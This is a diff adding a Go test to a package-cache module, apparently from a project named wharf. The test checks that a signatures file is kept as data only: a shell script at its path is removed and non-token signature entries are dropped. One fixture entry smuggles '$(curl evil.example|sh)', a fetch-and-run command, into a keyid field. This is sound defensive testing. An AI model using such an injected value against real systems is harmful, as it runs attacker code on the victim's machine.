@@ -3,6 +3,7 @@ package cache
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/wharfhq/wharf/trust"
@@ -70,5 +71,39 @@ func TestVersionKeepsNothingOutsideItsDigest(t *testing.T) {
 		if err := (trust.Pin{ID: pid, Version: "1.0.0", Digest: again.Digest, FP: again.FP}).CheckFast(v.Path); err != nil {
 			t.Fatalf("%s: %v", name, err)
 		}
+	}
+}
+
+// The detached signatures file, the one file the digest does not cover, is
+// kept as data only: a script at its path is removed, and a list keeps only
+// the signatures that are plain tokens, in wharf's own encoding.
+func TestVersionKeepsSignaturesAsDataOnly(t *testing.T) {
+	c := newCache(t, Options{})
+	sigPath := func(v *Version) string { return filepath.Join(v.Path, filepath.FromSlash(trust.SignaturesFile)) }
+	v, err := c.Materialize(bg, pid, "1.0.0", files(map[string]string{
+		"README.md":          "r",
+		trust.SignaturesFile: "#!/bin/sh\necho unsigned\n",
+		"hooks/hooks.json":   `{"hooks": {}}`,
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Lstat(sigPath(v)); err == nil {
+		t.Fatalf("a script at %s was kept", trust.SignaturesFile)
+	}
+	v, err = c.Materialize(bg, pid, "2.0.0", files(map[string]string{
+		"README.md":          "r",
+		trust.SignaturesFile: `[{"keyid": "$(curl evil.example|sh)", "sig": "QUJD"}, {"keyid": "1525eace427f81ec", "sig": "QUJD+/=="}]`,
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	sigs, err := trust.ReadSignatures(v.Path)
+	if err != nil || len(sigs) != 1 || sigs[0].KeyID != "1525eace427f81ec" || sigs[0].Sig != "QUJD+/==" {
+		t.Fatalf("signatures kept: %+v, %v", sigs, err)
+	}
+	b, _ := os.ReadFile(sigPath(v))
+	if strings.Contains(string(b), "$(") {
+		t.Fatalf("the signatures file still holds %q", b)
 	}
 }
